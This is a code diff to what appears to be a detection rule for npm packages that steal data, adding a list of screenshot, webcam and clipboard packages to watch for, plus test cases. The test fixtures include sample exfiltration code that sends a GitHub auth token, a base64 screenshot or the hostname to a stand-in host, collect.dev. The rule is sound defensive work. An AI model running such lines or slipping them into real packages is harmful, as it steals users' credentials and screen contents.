@@ -48,6 +48,19 @@ const textOf = (script: ScriptFacts, call: Call): string =>
     .replace(/\\+/g, '/')
     .replace(/['"],\s*['"]/g, '/');
 
+/** Packages that take pictures of the screen, read the clipboard or listen to the keyboard: all by themselves, when called. */
+const WATCHES: Readonly<Record<string, string>> = {
+  'screenshot-desktop': 'pictures of the screen',
+  'screenshot-desktop.all': 'pictures of the screen',
+  'desktop-screenshot': 'pictures of the screen',
+  'robotjs.screen.capture': 'pictures of the screen',
+  'screenshot-node': 'pictures of the screen',
+  'node-webcam.capture': 'pictures of the camera',
+  'clipboardy.read': 'the clipboard',
+  'clipboardy.readSync': 'the clipboard',
+  'copy-paste.paste': 'the clipboard',
+};
+
 /** What the script reads or runs to get at keys: the calls, with words for the person. */
 function takings(script: ScriptFacts): Map<number, string> {
   const found = new Map<number, string>();
@@ -55,6 +68,8 @@ function takings(script: ScriptFacts): Map<number, string> {
     if (KEPT.test(textOf(script, call))) found.set(call.value, 'files that hold keys of whoever runs it');
   for (const call of callsOf(script, ...RUNS))
     if (SEARCHES.test(textOf(script, call))) found.set(call.value, 'what a search for credentials finds');
+  for (const [path, what] of Object.entries(WATCHES))
+    for (const call of callsOf(script, path)) found.set(call.value, what);
   for (const request of requestsOf(script))
     if (METADATA.test(request.to)) found.set(request.value, 'the credentials of the machine in the cloud');
   return found;
@@ -125,9 +140,21 @@ export const packageStealsData = defineRule({
             "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n",
         },
       },
+      {
+        files: {
+          'index.js':
+            "const shot = require('screenshot-desktop');\nshot().then((image) => require('axios').post('https://collect.dev/s', { image: image.toString('base64') }));\n",
+        },
+      },
       { files: { 'index.js': "require('dns').lookup(require('os').hostname() + '.x.collect.dev', () => {});\n" } },
     ],
     good: [
+      {
+        files: {
+          'index.js':
+            "const shot = require('screenshot-desktop');\nshot({ filename: 'out.png' }).then(() => console.log('done'));\nfetch('https://api.dev/ping');\n",
+        },
+      },
       {
         files: {
           'index.mjs':
